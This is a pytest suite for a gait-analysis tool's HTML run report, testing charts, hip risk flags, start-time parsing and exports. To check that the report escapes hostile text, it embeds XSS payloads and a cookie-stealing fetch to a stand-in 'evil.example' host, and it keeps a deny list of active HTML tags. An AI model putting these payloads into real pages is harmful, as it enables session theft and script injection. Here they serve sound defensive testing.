"""The HTML run report: parses, holds its charts, escapes hostile text, works for sacrum-only,
shoe-only and combined runs; risk flags on constructed step tables; exports."""

import json
import math
import re
from datetime import UTC, datetime, timedelta, timezone
from html.parser import HTMLParser
from types import SimpleNamespace

import numpy as np
import pytest

from imu_hip.cli import main
from imu_hip.io import McapRecorder, write_mcap
from imu_hip.model import ImuHipError, Recording, SensorRecording
from imu_hip.pipeline import analyze
from imu_hip.report import collect_run, load_run, run_report_html
from imu_hip.report.data import parse_time, run_start
from imu_hip.report.flags import (
    ASYMMETRY_PCT,
    CADENCE_LOW_SPM,
    PELVIC_DROP_DEG,
    hip_flags,
)
from imu_hip.sim import demo_params, simulate

HOSTILE_NAME = '"><img src=x onerror=alert(1)><script>alert(2)</script>'
HOSTILE_DEVICE = "Polar H10 <img src=x onerror=alert(5)>\x1b[31m"
HOSTILE_META = {
    "note": "<script>fetch('http://evil.example/'+document.cookie)</script>",
    "device_name": '"><svg onload=alert(3)>',
    "comment": "</table></body><iframe src=javascript:alert(4)>",
}


class Page(HTMLParser):
    """Every start tag with its attributes, and the text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def parse(html: str) -> Page:
    p = Page()
    p.feed(html)
    p.close()
    return p


def assert_inert(html: str) -> Page:
    """No script, no event handler, nothing loaded from outside, no active embeds."""
    page = parse(html)
    names = [t for t, _ in page.tags]
    for bad in ("script", "iframe", "object", "embed", "img", "link", "base", "form", "audio",
                "video", "foreignobject"):
        assert bad not in names, bad
    for tag, attrs in page.tags:
        for k, v in attrs.items():
            assert not k.lower().startswith("on"), (tag, k)
            if k in ("href", "src", "xlink:href", "action"):
                raise AssertionError(f"{tag} has {k}={v!r}")
            if v and "javascript:" in v.lower():
                raise AssertionError((tag, k, v))
    assert "http-equiv" in html and "default-src 'none'" in html  # CSP forbids scripts/fetches
    return page


@pytest.fixture(scope="module")
def sacral_recording():
    sim = simulate(demo_params(minutes=3), seed=11, placements=("sacrum",))
    s = sim.recording.sensors[0]
    sensor = SensorRecording(HOSTILE_NAME, "sacrum", s.rate_hz, s.t_s, s.acc_mps2, s.gyr_rads,
                             metadata={"firmware": "<b>1.0</b>"})
    return Recording([sensor], {**HOSTILE_META, "start_time": "2026-05-17T07:30:00+02:00"})


@pytest.fixture(scope="module")
def sacral_file(sacral_recording, tmp_path_factory):
    """A live-style recording: a raw device channel whose advertised name is hostile."""
    path = tmp_path_factory.mktemp("rep") / "run.mcap"
    s = sacral_recording.sensors[0]
    with McapRecorder(path, metadata=sacral_recording.metadata, fsync=False) as rec:
        rec.add_device("dev-1", {"name": HOSTILE_DEVICE, "protocol": "imu-hip"})
        rec.write_raw("dev-1", 0.0, b"\x00\x01")
        rec.add_sensor(s.sensor_id, s.placement, s.rate_hz, s.has_gyro, s.metadata)
        for block in s.blocks(4096):
            rec.write_block(block)
    return path


@pytest.fixture(scope="module")
def sacral_result(sacral_recording):
    return analyze(sacral_recording, placement="sacrum")


def shoe_result(foot: str, minutes: float = 12.0, stride_m: float = 2.2, seed: int = 0,
                t0: float = 0.0):
    """A constructed per-stride table of one shoe (columns as in the shoe issue)."""
    rng = np.random.default_rng(seed)
    stride_t = 0.72 + 0.01 * rng.standard_normal(int(minutes * 60 / 0.72))
    t_start = t0 + np.concatenate(([0.0], np.cumsum(stride_t)[:-1])) + (
        0.36 if foot == "right_foot" else 0.0)
    n = len(stride_t)
    length = stride_m + 0.05 * rng.standard_normal(n)
    cols = {
        "t_start_s": t_start, "t_end_s": t_start + stride_t, "t_ic_s": t_start + 0.5,
        "t_to_s": t_start + 0.75, "side": np.full(n, foot.split("_")[0]),
        "gait": np.full(n, "run"), "stride_time_s": stride_t,
        "contact_time_s": 0.25 + 0.005 * rng.standard_normal(n),
        "stride_length_m": length, "speed_mps": length / stride_t,
        "foot_strike_angle_deg": 12 + rng.standard_normal(n),
        "foot_strike": np.where(rng.random(n) < 0.8, "rear", "mid"),
        "pronation_excursion_deg": 9 + rng.standard_normal(n),
        "impact_peak_g": 6 + 0.3 * rng.standard_normal(n),
    }
    summary = {"sensors": [{"sensor_id": f"shoe-{foot}", "placement": foot, "rate_hz": 400.0,
                            "duration_s": minutes * 60, "gaps": 0}]}
    return SimpleNamespace(strides=cols, summary=summary)


# -- the page ----------------------------------------------------------------------------------


def test_sacral_report_cli_parses_has_plots_and_escapes(sacral_file, tmp_path, capsys):
    out = tmp_path / "report.html"
    export = tmp_path / "export"
    assert main(["report", str(sacral_file), "--out", str(out), "--export", str(export)]) == 0
    html = out.read_text(encoding="utf-8")
    page = assert_inert(html)
    charts = [a for t, a in page.tags if t == "svg"]
    assert len(charts) >= 10  # metrics over the run + distributions
    text = "".join(page.text)
    # hostile strings are shown as text, literally
    assert HOSTILE_NAME in text
    assert HOSTILE_META["note"] in text and HOSTILE_META["device_name"] in text
    assert "<b>1.0</b>" in text
    assert "Polar H10 <img src=x onerror=alert(5)>" in text  # the device's advertised name
    assert "\x1b" not in html and "\\x1b[31m" in text  # control characters shown as escapes
    for section in ("What this may mean for your hip", "Metrics over the run", "Distributions",
                    "Per window", "Drift from start to end", "Data quality", "Left and right"):
        assert section in text
    assert "per 5 minutes" in text  # no distance on a sacrum-only run
    assert "2026-05-17 05:30" in text  # start from the metadata, shown in the local zone (UTC)
    assert re.search(r"\bnan\b", html) is None
    # exports
    rows = (export / "steps.csv").read_text().splitlines()
    assert rows[0].startswith("t_ic_s,") and len(rows) > 300
    summary = json.loads((export / "summary.json").read_text())
    assert summary["step_count"] == len(rows) - 1


def test_svg_points_inside_the_chart(sacral_result):
    html = run_report_html(collect_run(sacral_result))
    for svg in re.findall(r"<svg.*?</svg>", html, flags=re.S):
        w, h = map(float, re.search(r'viewBox="0 0 (\S+) (\S+)"', svg).groups())
        for pts in re.findall(r'points="([^"]+)"', svg):
            xy = np.array([p.split(",") for p in pts.split()], float)
            assert np.all((xy[:, 0] >= 0) & (xy[:, 0] <= w) & (xy[:, 1] >= 0) & (xy[:, 1] <= h))


def test_shoe_only_report_has_distance_and_per_km_table():
    shoes = [shoe_result("left_foot", seed=1), shoe_result("right_foot", seed=2)]
    run = collect_run(shoes, {"device_name": HOSTILE_NAME}, source="<shoes>.mcap")
    expected = np.mean([np.sum(s.strides["stride_length_m"]) for s in shoes])
    assert run.distance_m == pytest.approx(expected)
    # the per-km table ends where the summary card does (the mean of the feet)
    assert run.cumulative_distance()[1][-1] == pytest.approx(expected)
    assert run.step_count == sum(len(s.strides["t_ic_s"]) for s in shoes)
    html = run_report_html(run)
    page = assert_inert(html)
    text = "".join(page.text)
    assert "per kilometre" in text and "km 1" in text and "km 2" in text
    assert "stride length" in text and "foot-strike angle" in text
    assert re.search(r"rear [78]\d %, mid [12]\d %", text)
    assert f"{expected / 1000:.2f} km" in text
    assert "<shoes>.mcap" in text and HOSTILE_NAME in text
    flags = {f.key: f for f in hip_flags(run)}
    assert flags["pelvic_drop"].status == "not assessed"  # no sacrum
    assert flags["cadence"].status == "ok"  # 120 / 0.72 s = 167 steps/min from the shoes
    assert flags["asymmetry"].status in ("ok", "flag")  # sides known from the feet


def test_combined_report_shows_both(sacral_result):
    t0 = float(sacral_result.steps["t_ic_s"][0])
    shoes = shoe_result("left_foot", minutes=3, seed=3, t0=t0)
    run = collect_run([sacral_result, shoes])
    assert set(run.groups) == {"hip", "shoes"}
    html = run_report_html(run)
    text = "".join(assert_inert(html).text)
    assert "pelvic drop" in text and "stride length" in text and "vGRF peak" in text
    assert "shoe-left_foot" in text and HOSTILE_NAME in text


def test_empty_run_still_makes_a_page():
    empty = SimpleNamespace(steps={"t_ic_s": np.zeros(0), "side": np.zeros(0, str)},
                            summary={"sensor_id": "x", "placement": "sacrum"})
    html = run_report_html(collect_run(empty))
    assert "No steps were detected" in "".join(assert_inert(html).text)


# -- flags on constructed step tables ----------------------------------------------------------


def steps_table(n=3000, cadence=170.0, contact=0.25, drop_l=5.0, drop_r=5.0, contact_r=None,
                drift=None):
    """Alternating left/right running steps; ``drift``: {column: relative change start->end}."""
    step = np.full(n, 60.0 / cadence)
    t = np.cumsum(step)
    side = np.where(np.arange(n) % 2 == 0, "left", "right")
    frac = np.linspace(0, 1, n)
    cols = {
        "t_ic_s": t, "side": side, "gait": np.full(n, "run"), "step_time_s": step,
        "cadence_spm": np.full(n, cadence),
        "contact_time_s": np.where(side == "left", contact, contact_r or contact),
        "vgrf_peak_bw": np.full(n, 2.4), "impact_peak_g": np.full(n, 2.5),
        "pelvic_drop_deg": np.where(side == "left", drop_l, drop_r),
    }
    for k, rel in (drift or {}).items():
        cols[k] = cols[k] * (1 + rel * frac)
    return SimpleNamespace(steps=cols, summary={"placement": "sacrum", "time_running_s":
                                                 float(step.sum())})


def flags_of(**kw):
    return {f.key: f for f in hip_flags(collect_run(steps_table(**kw)))}


def test_flags_fire_on_their_thresholds_only():
    calm = flags_of()
    assert [calm[k].status for k in ("cadence", "impact", "pelvic_drop", "asymmetry",
                                      "fatigue")] == ["ok"] * 5
    assert flags_of(cadence=CADENCE_LOW_SPM - 5)["cadence"].status == "flag"
    assert flags_of(cadence=CADENCE_LOW_SPM + 5)["cadence"].status == "ok"
    assert flags_of(drop_l=PELVIC_DROP_DEG + 1, drop_r=PELVIC_DROP_DEG + 1)[
        "pelvic_drop"].status == "flag"
    assert flags_of(drop_l=5.0, drop_r=7.5)["pelvic_drop"].status == "flag"  # side gap 2.5 deg
    asym = 1 + 1.2 * ASYMMETRY_PCT / 100
    assert flags_of(contact_r=0.25 * asym)["asymmetry"].status == "flag"
    assert flags_of(contact_r=0.25 * 1.05)["asymmetry"].status == "ok"
    assert flags_of(drift={"vgrf_peak_bw": 0.2})["impact"].status == "flag"
    assert flags_of(drift={"contact_time_s": 0.12})["fatigue"].status == "flag"
    assert flags_of(drift={"contact_time_s": 0.02})["fatigue"].status == "ok"
    short = flags_of(n=500)  # under 10 minutes of running
    assert short["fatigue"].status == "not assessed"


def test_drift_windows_count_steps_withheld_at_packet_loss():
    """A step whose step time was withheld (next to a lost packet) still stands for the time to
    the next step: the first and last 10 % of the running time hold the same steps as without
    loss, as in the summary (``step_durations``)."""
    run = steps_table(drift={"contact_time_s": 0.3})
    truth = collect_run(run).stats("hip", "contact_time_s")
    lossy = steps_table(drift={"contact_time_s": 0.3})
    lossy.steps["step_time_s"][:1500:2] = np.nan  # every other step of the first half
    got = collect_run(lossy).stats("hip", "contact_time_s")
    assert got is not None and truth is not None
    assert got.start == pytest.approx(truth.start, abs=1e-6)
    assert got.end == pytest.approx(truth.end, abs=1e-6)
    assert got.drift == pytest.approx(0.3 * 0.25 * 0.9, rel=0.05)


def test_every_flag_states_threshold_evidence_and_uncertainty():
    for f in flags_of().values():
        assert f.threshold and f.uncertainty and f.meaning
        assert re.search(r"(19|20)\d\d", f.evidence)  # a dated citation
    low = flags_of(cadence=150.0)["cadence"]
    assert "158-165" in low.meaning  # +5-10 % of 150 steps/min


def test_sides_unknown_means_asymmetry_not_assessed():
    r = steps_table()
    r.steps["side"] = np.full(len(r.steps["side"]), "unknown")
    assert {f.key: f for f in hip_flags(collect_run(r))}["asymmetry"].status == "not assessed"


# -- start time ---------------------------------------------------------------------------------


def test_start_time_sources(tmp_path):
    d = parse_time("2026-05-17T07:30:00+02:00")
    assert d == datetime(2026, 5, 17, 5, 30, tzinfo=UTC)
    assert parse_time("2026-05-17T05:30:00Z") == d
    assert parse_time(str(d.timestamp())) == d
    assert parse_time("yesterday") is None and parse_time("12") is None
    assert run_start({"Start_Time": "2026-05-17T05:30Z"}) == (d, "recording metadata (start_time)")
    when, src = run_start({}, first_time_s=d.timestamp())
    assert when == d and "host clock" in src
    f = tmp_path / "x.csv"
    f.write_text("x")
    mtime = f.stat().st_mtime
    when, src = run_start({}, first_time_s=3.0, path=f, duration_s=600.0)
    assert when.timestamp() == pytest.approx(mtime - 600.0) and "modification" in src
    given = datetime(2026, 1, 2, 3, 4, tzinfo=timezone(timedelta(hours=-5)))
    assert run_start({"start_time": "2026-05-17T05:30Z"}, override=given)[0] == given


def test_load_run_reads_metadata_and_start(sacral_file):
    run = load_run(sacral_file)
    assert run.start_utc == datetime(2026, 5, 17, 5, 30, tzinfo=UTC)
    assert run.metadata["note"] == HOSTILE_META["note"]
    assert run.metadata["firmware"] == "<b>1.0</b>"


# -- errors and exports -------------------------------------------------------------------------


def test_report_bad_output_and_input_are_one_line_errors(sacral_file, tmp_path, capsys):
    assert main(["report", str(sacral_file), "--out", str(tmp_path / "no" / "r.html")]) == 2
    err = capsys.readouterr().err.strip()
    assert err.count("\n") == 0 and "not a writable folder" in err
    assert main(["report", str(tmp_path / "missing.mcap"), "--out", str(tmp_path / "r.html")]) == 2
    assert "missing.mcap" in capsys.readouterr().err
    assert not (tmp_path / "r.html").exists()


def test_to_json_and_to_pandas(sacral_result):
    data = json.loads(sacral_result.to_json())
    assert data["step_count"] == len(sacral_result.steps)
    assert "NaN" not in sacral_result.to_json()
    try:
        import pandas  # noqa: F401
    except ImportError:
        with pytest.raises(ImuHipError, match="pandas"):
            sacral_result.to_pandas()
        pytest.skip("pandas is not installed (optional)")
    df = sacral_result.to_pandas()
    assert len(df) == len(sacral_result.steps)
    expected = np.nanmedian(sacral_result.steps["cadence_spm"])
    assert math.isclose(df["cadence_spm"].median(), expected)


# -- real shoe analysis (imu_hip.foot_pipeline) on simulated recordings ---------------------------


@pytest.fixture(scope="module")
def three_sensor_files(tmp_path_factory):
    sim = simulate(demo_params(minutes=2), seed=8, placements=("sacrum", "left_foot", "right_foot"))
    rec = sim.recording
    folder = tmp_path_factory.mktemp("shoes")
    combined, shoes = folder / "combined.mcap", folder / "shoes.mcap"
    meta = {**rec.metadata, "note": HOSTILE_META["note"]}
    write_mcap(Recording(rec.sensors, meta), combined)
    write_mcap(Recording([s for s in rec.sensors if s.placement != "sacrum"], meta), shoes)
    return combined, shoes


def test_shoe_only_file(three_sensor_files):
    run = load_run(three_sensor_files[1])
    assert list(run.groups) == ["shoes"]
    assert set(run.groups["shoes"].side) == {"left", "right"}  # both feet analysed together
    assert 100.0 < run.distance_m < 1000.0  # ~2 min, mostly running
    text = "".join(assert_inert(run_report_html(run)).text)
    assert "sim-left-foot" in text and "sim-right-foot" in text and "stride length" in text
    assert HOSTILE_META["note"] in text
    assert {f.key: f for f in hip_flags(run)}["pelvic_drop"].status == "not assessed"


def test_combined_file(three_sensor_files, tmp_path):
    out = tmp_path / "c.html"
    assert main(["report", str(three_sensor_files[0]), "--out", str(out)]) == 0
    page = assert_inert(out.read_text())
    text = "".join(page.text)
    assert "sim-sacrum" in text and "sim-left-foot" in text
    assert "pelvic drop" in text and "stride length" in text
    assert "shoes vs sacrum: clock offset" in text
    run = load_run(three_sensor_files[0])
    assert set(run.groups) == {"hip", "shoes"}


def test_walking_only_is_not_judged_by_running_thresholds():
    r = steps_table(n=800, cadence=110.0, drop_l=9.0, drop_r=9.0)
    r.steps["gait"] = np.full(800, "walk")
    flags = {f.key: f for f in hip_flags(collect_run(r))}
    assert all(f.status == "not assessed" for f in flags.values())


def test_binned_quantiles_match_numpy_per_bin():
    from imu_hip.report.run import _binned

    rng = np.random.default_rng(0)
    t = rng.uniform(0, 100, 3000)
    x = rng.normal(size=3000)
    x[::17] = np.nan
    edges = np.arange(0.0, 120.0, 7.0)  # the last bins are empty
    med, lo, hi = _binned(t, x, edges)
    for b in range(len(edges) - 1):
        sel = (t >= edges[b]) & (t < edges[b + 1]) & np.isfinite(x)
        if sel.any():
            assert np.allclose([med[b], lo[b], hi[b]], np.percentile(x[sel], [50, 25, 75]))
        else:
            assert np.isnan(med[b]) and np.isnan(hi[b])


def test_one_placement_of_a_session_and_its_history_record(three_sensor_files):
    from imu_hip.history import record_from_run

    left = load_run(three_sensor_files[0], placement="left_foot")
    assert list(left.groups) == ["shoes"] and set(left.groups["shoes"].side) == {"left"}
    both = load_run(three_sensor_files[0])
    record = record_from_run(both, "fp")
    assert record.distance_m == pytest.approx(both.distance_m)
    assert record.impact_load_bw == pytest.approx(np.nansum(both.groups["hip"].columns[
        "vgrf_peak_bw"]))
    assert "shoes.stride_length_m" in record.medians and "hip.pelvic_drop_deg" in record.medians


def test_a_re_mount_is_a_data_quality_note_escaped_and_malformed_entries_do_not_break_it():
    steps = {"t_ic_s": np.zeros(0), "side": np.zeros(0, str)}
    summary = {"sensor_id": "x", "placement": "sacrum",
               "remounts": [{"t_s": 754.25, "change": "forward reversed <b>x</b>"},
                            {"t_s": "soon"}, "junk"]}
    html = run_report_html(collect_run(SimpleNamespace(steps=steps, summary=summary)))
    text = "".join(assert_inert(html).text)
    assert "re-mounted at 754.2 s (forward reversed <b>x</b>); aligned again" in text
    assert "re-mounted at ? s (?)" in text
